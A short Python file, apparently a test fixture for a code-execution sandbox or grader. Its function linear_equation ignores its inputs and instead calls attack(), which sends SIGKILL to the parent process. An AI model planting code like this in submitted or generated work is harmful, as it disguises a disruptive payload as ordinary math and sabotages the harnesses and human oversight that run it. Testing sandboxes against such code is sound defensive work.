"""Kills the process that forked it."""

import os
import signal


def attack():
    os.kill(os.getppid(), signal.SIGKILL)


def linear_equation(x, w, b):
    return attack()
